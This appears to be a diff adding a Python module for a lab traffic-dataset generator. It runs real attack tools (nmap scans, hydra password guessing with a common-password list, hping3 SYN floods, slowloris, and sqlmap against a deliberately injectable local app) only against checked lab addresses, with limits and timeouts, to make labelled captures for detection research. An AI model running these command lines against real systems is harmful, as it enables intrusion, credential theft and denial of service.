@@ -1,0 +1,219 @@
+"""Threat scenarios: real attack tools from the attacker namespace against lab services only.
+
+Every tool is bounded twice: by its own limits (port lists, packet counts,
+wordlist sizes, test length) and by a process timeout. Targets are always
+lab addresses (checked by :meth:`Context.target`). While the attack runs, the
+client namespace keeps browsing, so captures mix attack and benign flows
+that are told apart by host.
+"""
+
+from __future__ import annotations
+
+import sys
+import threading
+
+from multa_broker.lab.benign import HTTP, curl_session
+from multa_broker.lab.labels import Labels, ports
+from multa_broker.lab.network import LAN
+from multa_broker.lab.scenario import Context, UNAVAILABLE, find_tool, scenario
+from multa_broker.lab.services import WebSite, nginx, sshd, vsftpd, web_content
+
+SCAN = Labels(None, None, "none", "scan")
+FLOOD = Labels(None, None, "none", "dos")
+SLOW = Labels("http", "cleartext", "none", "dos")
+BF_SSH = Labels("ssh", "encrypted", "none", "bruteforce")
+BF_FTP = Labels("ftp", "cleartext", "none", "bruteforce")
+BF_HTTP = Labels("http", "cleartext", "none", "bruteforce")
+EXPLOIT = Labels("http", "cleartext", "none", "exploit")
+
+USERS = ["admin", "root", "test", "user", "guest", "oracle", "ubuntu", "pi", "support", "ftp"]
+PASSWORDS = ["123456", "password", "12345678", "qwerty", "123456789", "12345", "1234", "111111",
+             "1234567", "dragon", "123123", "baseball", "abc123", "football", "monkey", "letmein",
+             "696969", "shadow", "master", "666666", "qwertyuiop", "123321", "mustang", "1234567890",
+             "michael", "654321", "superman", "1qaz2wsx", "7777777", "121212", "000000", "admin"]
+
+UNAVAILABLE["c2-beacon"] = (
+    "threat",
+    "not generated: no real command-and-control framework is packaged in Debian, and a scripted "
+    "beacon loop (curl on a timer) would be a made-up pattern labelled as c2, not real C2 traffic")
+
+
+class Browsing:
+    """Benign HTTP from the client while an attack runs (bounded in requests and time)."""
+
+    def __init__(self, ctx: Context, site: WebSite, max_requests: int = 40):
+        self.ctx, self.site, self.max = ctx, site, max_requests
+        self.stop_event = threading.Event()
+        # Its own RNG, so the attack's seeded choices do not depend on thread timing.
+        self.rng = __import__("random").Random(ctx.rng.random())
+        self.thread = threading.Thread(target=self._loop, name="lab-browsing", daemon=True)
+
+    def __enter__(self) -> "Browsing":
+        self.ctx.rule(HTTP, server=self.ctx.srv.ip, ports=ports(80), client=self.ctx.cli.ip, protos=("tcp",),
+                      what="client browsing")
+        self.thread.start()
+        return self
+
+    def _loop(self) -> None:
+        for _ in range(self.max):
+            if self.stop_event.wait(self.rng.uniform(0.3, 2.5)):
+                return
+            paths = self.rng.sample(self.site.paths, k=min(3, len(self.site.paths)))
+            self.ctx.client("cli", curl_session(self.ctx, f"http://{self.ctx.srv.ip}", paths), timeout=30)
+
+    def __exit__(self, *exc: object) -> None:
+        self.stop_event.set()
+        self.thread.join(timeout=40)
+
+
+def _targets(ctx: Context, with_ssh: bool = True) -> WebSite:
+    """Services for scans to find: nginx (80, 443 when openssl exists) and sshd when installed."""
+    site = web_content(ctx, n=ctx.count(4, 8, minimum=2), hi=200_000)
+    nginx(ctx, site, ctx.srv.ip, https=find_tool("openssl") is not None)
+    if with_ssh and find_tool("/usr/sbin/sshd") and find_tool("ssh-keygen"):
+        sshd(ctx, ctx.srv.ip)
+    return site
+
+
+def _nmap(ctx: Context, args: list[str], target: str, timeout: float) -> None:
+    ctx.rule(SCAN, client=ctx.atk.ip, what="nmap")
+    site = _targets(ctx)
+    with Browsing(ctx, site):
+        ctx.pause(0.5, 2.0)
+        timing = ctx.choice(["-T3", "-T4", "-T4", "-T5"])
+        ctx.client("atk", ["nmap", "-n", timing, "--max-retries", "1", "--host-timeout", f"{int(timeout)}s",
+                           *args, ctx.target(target)], timeout=timeout + 30)
+        ctx.pause(0.5, 2.0)
+
+
+def _port_spec(ctx: Context, lo: int, hi: int) -> list[str]:
+    if ctx.rng.random() < 0.5:
+        return ["--top-ports", str(ctx.count(lo, hi, minimum=20))]
+    return ["-p", f"1-{ctx.count(lo, hi, minimum=20)}"]
+
+
+@scenario("scan-syn", "threat", "nmap -sS SYN scan of the server", needs=("nmap", "nginx"))
+def scan_syn(ctx: Context) -> None:
+    _nmap(ctx, ["-sS", "-Pn", *_port_spec(ctx, 300, 1500)], ctx.srv.ip, timeout=120)
+
+
+@scenario("scan-connect", "threat", "nmap -sT connect scan of the server", needs=("nmap", "nginx"))
+def scan_connect(ctx: Context) -> None:
+    _nmap(ctx, ["-sT", "-Pn", *_port_spec(ctx, 200, 1000)], ctx.srv.ip, timeout=120)
+
+
+@scenario("scan-udp", "threat", "nmap -sU UDP scan of common UDP ports", needs=("nmap", "nginx"))
+def scan_udp(ctx: Context) -> None:
+    common = [53, 67, 68, 69, 111, 123, 137, 138, 161, 162, 500, 514, 520, 623, 1194, 1434, 1900,
+              4500, 5060, 5353, 11211, 51820]
+    extra = [ctx.rng.randint(1024, 65535) for _ in range(ctx.count(5, 20))]
+    pick = sorted(set(ctx.rng.sample(common, k=ctx.count(8, len(common), minimum=4)) + extra))
+    _nmap(ctx, ["-sU", "-Pn", "-p", ",".join(map(str, pick))], ctx.srv.ip, timeout=120)
+
+
+@scenario("scan-version", "threat", "nmap -sV service/version detection against running services",
+          needs=("nmap", "nginx"))
+def scan_version(ctx: Context) -> None:
+    pick = [22, 80, 443] + ctx.rng.sample([21, 25, 53, 110, 143, 1883, 3306, 5432, 6379, 8080], k=ctx.count(2, 6))
+    _nmap(ctx, ["-sV", "-Pn", "--version-intensity", str(ctx.rng.randint(2, 7)), "-p", ",".join(map(str, pick))],
+          ctx.srv.ip, timeout=150)
+
+
+@scenario("scan-ping", "threat", "nmap -sn ping sweep of the lab /24 with IP-level probes",
+          needs=("nmap", "nginx"))
+def scan_ping(ctx: Context) -> None:
+    probes = ctx.rng.sample(["-PE", "-PP", "-PM", "-PS22,80,443", "-PA80", "-PU53"], k=ctx.rng.randint(1, 4))
+    # --send-ip: on a LAN nmap would otherwise use ARP only, and no IP flow would exist.
+    _nmap(ctx, ["-sn", "--send-ip", *probes], str(LAN), timeout=90)
+
+
+def _wordlists(ctx: Context, users: list[str], extra_pw: list[str] = ()) -> tuple[str, str]:
+    u = ctx.rng.sample(users, k=min(len(users), ctx.count(2, 5, minimum=1)))
+    p = ctx.rng.sample(PASSWORDS, k=min(len(PASSWORDS), ctx.count(12, 32, minimum=3))) + list(extra_pw)
+    ctx.rng.shuffle(p)
+    return str(ctx.write("hydra/users.txt", "\n".join(u) + "\n")), str(ctx.write("hydra/pass.txt", "\n".join(p) + "\n"))
+
+
+def _hydra(ctx: Context, users: str, pwds: str, target: list[str], timeout: float) -> None:
+    tasks = str(ctx.rng.randint(2, 4))
+    ctx.client("atk", ["hydra", "-I", "-q", "-t", tasks, "-w", "10", "-o", str(ctx.path("hydra/found.txt")),
+                       "-L", users, "-P", pwds, *target], timeout=timeout)
+
+
+@scenario("bf-ssh", "threat", "hydra password guessing against OpenSSH (small wordlists)",
+          needs=("hydra", "/usr/sbin/sshd", "ssh-keygen"))
+def bf_ssh(ctx: Context) -> None:
+    ctx.rule(BF_SSH, server=ctx.srv.ip, ports=ports(22), client=ctx.atk.ip, protos=("tcp",), what="hydra ssh")
+    sshd(ctx, ctx.srv.ip, password_auth=True)
+    users, pwds = _wordlists(ctx, USERS)
+    _hydra(ctx, users, pwds, [f"ssh://{ctx.target(ctx.srv.ip)}"], timeout=120 * max(ctx.scale, 0.3))
+
+
+@scenario("bf-ftp", "threat", "hydra password guessing against vsftpd (small wordlists)", needs=("hydra", "vsftpd"))
+def bf_ftp(ctx: Context) -> None:
+    from multa_broker.lab.services import FTP_PASV
+    ctx.rule(BF_FTP, server=ctx.srv.ip, ports=ports(21, 20, FTP_PASV), client=ctx.atk.ip, protos=("tcp",),
+             what="hydra ftp")
+    vsftpd(ctx, ctx.srv.ip, files=1)
+    users, pwds = _wordlists(ctx, USERS)
+    _hydra(ctx, users, pwds, [f"ftp://{ctx.target(ctx.srv.ip)}"], timeout=120 * max(ctx.scale, 0.3))
+
+
+@scenario("bf-http", "threat", "hydra http-get against nginx basic auth (the right password is in the list)",
+          needs=("hydra", "nginx"))
+def bf_http(ctx: Context) -> None:
+    ctx.rule(BF_HTTP, server=ctx.srv.ip, ports=ports(80), client=ctx.atk.ip, protos=("tcp",), what="hydra http-get")
+    site = web_content(ctx, n=3, hi=100_000)
+    nginx(ctx, site, ctx.srv.ip)
+    users, pwds = _wordlists(ctx, [site.user, *USERS], extra_pw=[site.password])
+    with Browsing(ctx, site):
+        _hydra(ctx, users, pwds, [ctx.target(ctx.srv.ip), "http-get", site.private], timeout=120 * max(ctx.scale, 0.3))
+
+
+@scenario("dos-synflood", "threat", "hping3 SYN flood against nginx, bounded by packet count (-c)",
+          needs=("hping3", "nginx"))
+def dos_synflood(ctx: Context) -> None:
+    ctx.rule(FLOOD, client=ctx.atk.ip, what="hping3")
+    site = web_content(ctx, n=3, hi=100_000)
+    nginx(ctx, site, ctx.srv.ip)
+    count = ctx.count(300, 1500, minimum=30)
+    gap_us = ctx.rng.randint(200, 3000)
+    port = ctx.choice(["80", "80", "443", "22"])
+    with Browsing(ctx, site):
+        ctx.pause(0.5, 1.5)
+        ctx.client("atk", ["hping3", "-S", "-p", port, "-c", str(count), "-i", f"u{gap_us}",
+                           "-w", str(ctx.rng.choice([1024, 8192, 29200, 64240])), ctx.target(ctx.srv.ip)],
+                   timeout=count * gap_us / 1e6 + 20)
+        ctx.pause(0.5, 1.5)
+
+
+@scenario("dos-slowloris", "threat", "slowhttptest slowloris (-H) against nginx, bounded test length (-l)",
+          needs=("slowhttptest", "nginx"))
+def dos_slowloris(ctx: Context) -> None:
+    ctx.rule(SLOW, server=ctx.srv.ip, ports=ports(80), client=ctx.atk.ip, protos=("tcp",), what="slowhttptest")
+    site = web_content(ctx, n=3, hi=100_000)
+    nginx(ctx, site, ctx.srv.ip)
+    length = ctx.count(15, 30, minimum=6)
+    with Browsing(ctx, site):
+        ctx.client("atk", ["slowhttptest", "-H", "-c", str(ctx.count(80, 300, minimum=20)),
+                           "-i", str(ctx.rng.randint(3, 10)), "-r", str(ctx.rng.randint(20, 100)),
+                           "-l", str(length), "-x", str(ctx.rng.randint(8, 40)), "-p", "3",
+                           "-u", f"http://{ctx.target(ctx.srv.ip)}/"], timeout=length + 30)
+
+
+@scenario("exploit-sqli", "threat", "sqlmap against a small SQL-injectable page (SQLite), --batch, bounded",
+          needs=("sqlmap",))
+def exploit_sqli(ctx: Context) -> None:
+    ctx.rule(EXPLOIT, server=ctx.srv.ip, ports=ports(8080), client=ctx.atk.ip, protos=("tcp",), what="sqlmap")
+    limit = 240 * max(ctx.scale, 0.3)
+    ctx.daemon("srv", [sys.executable, "-m", "multa_broker.lab.vulnapp", "--bind", ctx.srv.ip, "--port", "8080",
+                       "--max-seconds", str(int(limit + 60))], "vulnapp", listen=[("tcp", ctx.srv.ip, 8080)])
+    technique = ctx.choice(["BEU", "BU", "BEUS", "U", "BEUST"])
+    action = ctx.choice([["--dbs"], ["--tables"], ["--dump", "-T", "users"], ["--banner", "--current-user"]])
+    argv = ["sqlmap", "-u", f"http://{ctx.target(ctx.srv.ip)}:8080/item?id=1", "--batch", "--flush-session",
+            "--output-dir", str(ctx.path("sqlmap")), "--timeout", "5", "--retries", "0", "--time-sec", "1",
+            "--threads", str(ctx.rng.randint(1, 3)), "--level", str(ctx.rng.randint(1, 2)), "--risk", "1",
+            "--technique", technique, "--disable-coloring", *action]
+    if ctx.rng.random() < 0.5:
+        argv += ["--dbms", "SQLite"]  # else sqlmap fingerprints the back end itself
+    ctx.client("atk", argv, timeout=limit)
